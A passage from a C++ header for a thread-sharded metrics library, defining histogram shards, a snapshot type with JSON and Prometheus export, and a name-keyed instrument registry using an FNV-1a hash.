      const std::size_t b = i < nbuckets ? i : nbuckets - 1;
      s.buckets[b].fetch_add(counts[i], std::memory_order_relaxed);
    }
    if (sum != 0) s.sum.fetch_add(sum, std::memory_order_relaxed);
  }

  [[nodiscard]] const std::vector<std::uint64_t>& bounds() const noexcept { return bounds_; }
  // Aggregated non-cumulative bucket counts (size bounds().size() + 1).
  [[nodiscard]] std::vector<std::uint64_t> bucket_counts() const;
  [[nodiscard]] std::uint64_t count() const;
  [[nodiscard]] std::uint64_t sum() const;

 private:
  friend class Registry;
  explicit Histogram(std::span<const std::uint64_t> bounds);
  void zero() noexcept;

  struct alignas(64) Shard {
    std::unique_ptr<std::atomic<std::uint64_t>[]> buckets;
    std::atomic<std::uint64_t> sum{0};
  };
  std::vector<std::uint64_t> bounds_;  // ascending upper bounds
  Shard shards_[kShards];
};

// Aggregated point-in-time view of every registered instrument.
struct Snapshot {
  struct CounterValue {
    std::string name;
    std::uint64_t value = 0;
  };
  struct GaugeValue {
    std::string name;
    std::int64_t value = 0;
  };
  struct HistogramValue {
    std::string name;
    std::vector<std::uint64_t> bounds;
    std::vector<std::uint64_t> buckets;  // non-cumulative, bounds.size() + 1
    std::uint64_t count = 0;
    std::uint64_t sum = 0;
  };
  std::vector<CounterValue> counters;
  std::vector<GaugeValue> gauges;
  std::vector<HistogramValue> histograms;

  [[nodiscard]] std::string to_json() const;
  [[nodiscard]] std::string to_prometheus() const;
};

class Registry {
 public:
  static Registry& global();

  Registry() = default;
  Registry(const Registry&) = delete;
  Registry& operator=(const Registry&) = delete;

  // Resolve (or create) an instrument. `name` is the full identity,
  // including any {labels} suffix (see labeled()). Returned references stay
  // valid for the registry's lifetime; repeated calls return the same
  // instrument. A histogram's bounds are fixed by its first registration.
  // string_view parameters: resolution on the repeated-lookup path never
  // allocates (heterogeneous lookup; a std::string is built only when the
  // name is first registered).
  Counter& counter(std::string_view name);
  Gauge& gauge(std::string_view name);
  Histogram& histogram(std::string_view name, std::span<const std::uint64_t> bounds);

  [[nodiscard]] Snapshot snapshot() const;

  // Zero every instrument's cells, keeping registrations and handles valid
  // (benchmarks and tests isolate runs with this).
  void reset_values();

 private:
  // Transparent hash/equal: lookups take string_view without materializing
  // a std::string key. snapshot() sorts by name, so exporter output stays
  // deterministic even though the maps themselves are unordered.
  struct NameHash {
    using is_transparent = void;
    [[nodiscard]] std::size_t operator()(std::string_view s) const noexcept {
      // FNV-1a, 64-bit.
      std::uint64_t h = 1469598103934665603ULL;
      for (const char c : s) {
        h ^= static_cast<unsigned char>(c);
        h *= 1099511628211ULL;
      }
      return static_cast<std::size_t>(h);
    }
  };
  struct NameEq {
    using is_transparent = void;
    [[nodiscard]] bool operator()(std::string_view a, std::string_view b) const noexcept {
      return a == b;
    }
  };
  template <typename T>
  using NameMap = std::unordered_map<std::string, std::unique_ptr<T>, NameHash, NameEq>;

  mutable std::mutex mu_;
  NameMap<Counter> counters_;
  NameMap<Gauge> gauges_;
  NameMap<Histogram> histograms_;
};

}  // namespace sonata::obs
